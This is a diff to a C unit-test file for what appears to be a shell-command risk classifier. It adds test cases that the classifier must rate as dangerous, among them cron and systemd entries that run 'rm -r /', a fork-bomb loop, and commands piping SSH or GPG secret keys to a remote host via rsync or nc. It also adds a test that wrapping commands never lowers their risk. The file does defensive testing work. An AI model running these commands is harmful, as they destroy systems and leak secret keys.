@@ -21,6 +21,7 @@ static const cm_program programs[] = {
     {"curl", "o:d:F:H:T:", "data=", CM_PROGRAM_FETCHES | CM_PROGRAM_SENDS, CM_SAFE},
     {"wget", "O:", NULL, CM_PROGRAM_FETCHES, CM_SAFE},
     {"nc", NULL, NULL, CM_PROGRAM_FETCHES | CM_PROGRAM_SENDS, CM_SAFE},
+    {"rsync|gpg", NULL, NULL, 0, CM_SAFE},
     {"scp", "i:", NULL, CM_PROGRAM_SENDS, CM_MODERATE},
     {"base64|gunzip", NULL, "decode", CM_PROGRAM_DECODES, CM_SAFE},
     {"chmod", NULL, NULL, CM_PROGRAM_QUIET, CM_SAFE},
@@ -189,6 +190,13 @@ static void redirections(void **state) {
       {"curl x >> ~/.bashrc", "critical", "startup.hidden"},
       {"echo x >> ~/.ssh/authorized_keys", "critical", "file.redirect"},
       {"cat < /dev/sda", "safe", ""},
+      {"echo '0 5 * * * root rm -r /' >> /etc/crontab", "critical", "t.delete-tree"},
+      {"echo '@daily root rm -r /' > /etc/cron.d/x", "critical", "t.delete-tree"},
+      {"echo '0 5 * * * root ls' >> /etc/crontab", "high", "file.redirect"},
+      {"echo 'ExecStart=rm -r /' > /etc/systemd/system/x.service", "critical", "t.delete-tree"},
+      {"while true; do nobody-knows-this & done", "critical", "proc.fork-bomb"},
+      {"while true; do ls & sleep 1; done", "safe", ""},
+      {"for i in 1 2 3; do ls & done", "safe", ""},
   };
   CHECK(cases);
 }
@@ -203,6 +211,8 @@ static void flows(void **state) {
       {"cat x.sh | sh", "moderate", "code.file"},
       {"grep -v x x.sh | sh", "critical?", "code.unknown"},
       {"eval \"$(ssh-agent -s)\"", "safe", ""},
+      {"source <(git completion bash)", "safe", ""},
+      {"source <(cat completion)", "moderate", "code.file"},
       {"eval \"$(curl x)\"", "critical?", "code.fetched"},
       {"eval \"$x\"", "critical?", "code.unknown"},
       {"sh <(curl x)", "critical?", NULL},
@@ -228,6 +238,8 @@ static void flows(void **state) {
       {"scp ~/.ssh/id_rsa.pub host:", "moderate", "program.risk"},
       {"scp -i ~/.ssh/id_rsa a host:", "moderate", "program.risk"},
       {"scp host:key ~/.ssh/id_rsa", "moderate", "program.risk"},
+      {"rsync -a ~/.ssh/ host:", "critical", "data.secret-sent"},
+      {"gpg --export-secret-keys | nc h 1", "critical", "data.secret-sent"},
       {"cat .env > /dev/tcp/h/1", "critical", "data.secret-sent"},
       {"env | nc h 1", "critical", "data.environment-sent"},
       {"env | grep PATH", "safe", ""},
@@ -394,6 +406,51 @@ static void a_list_is_as_bad_as_its_worst(void **state) {
   }
 }
 
+/* Wrapping, quoting or escaping a command never lowers its level. */
+static void disguises_never_lower(void **state) {
+  (void)state;
+  static const char *const disguises[] = {"sudo %s",
+                                          "env %s",
+                                          "nohup %s",
+                                          "( %s )",
+                                          "{ %s; }",
+                                          "time %s",
+                                          "! %s",
+                                          "if true; then %s; fi",
+                                          "true && %s",
+                                          "false || %s",
+                                          "sh -c '%s'",
+                                          "bash -c \"%s\"",
+                                          "eval '%s'",
+                                          "f() { %s; }; f",
+                                          "echo $(%s)",
+                                          "%s &",
+                                          "while true; do %s; done",
+                                          "\\%s",
+                                          "  %s  # ls",
+                                          "x=1; %s",
+                                          "case a in a) %s;; esac",
+                                          "ls\n%s",
+                                          "cat <<E\n$(%s)\nE",
+                                          "for i in 1; do %s; done",
+                                          "trap '%s' EXIT",
+                                          "command %s",
+                                          "echo '%s' | sh",
+                                          "sh <<< '%s'",
+                                          "cat <(%s)",
+                                          "%s\\\n"};
+  static const char *const lines[] = {"rm a",        "rm -r src", "rm -r /",
+                                      "git push -f", "ls looked", "rm \\\n -r /"};
+  for (size_t i = 0; i < CM_COUNT(lines); i++) {
+    cm_risk plain = judge(lines[i]).risk;
+    for (size_t k = 0; k < CM_COUNT(disguises); k++) {
+      char text[256];
+      snprintf(text, sizeof text, disguises[k], lines[i]);
+      if (judge(text).risk < plain) fail_msg("%s: %s", text, cm_risk_name(judge(text).risk));
+    }
+  }
+}
+
 /* Findings: the worst first, none safe, each with words of the text. */
 static void findings_are_in_order(void **state) {
   (void)state;
@@ -510,6 +567,7 @@ int main(void) {
       cmocka_unit_test(bad_lists),
       cmocka_unit_test(bad_packs),
       cmocka_unit_test(a_list_is_as_bad_as_its_worst),
+      cmocka_unit_test(disguises_never_lower),
       cmocka_unit_test(findings_are_in_order),
       cmocka_unit_test(never_open_without_memory),
       cmocka_unit_test(never_open_in_small_arenas),
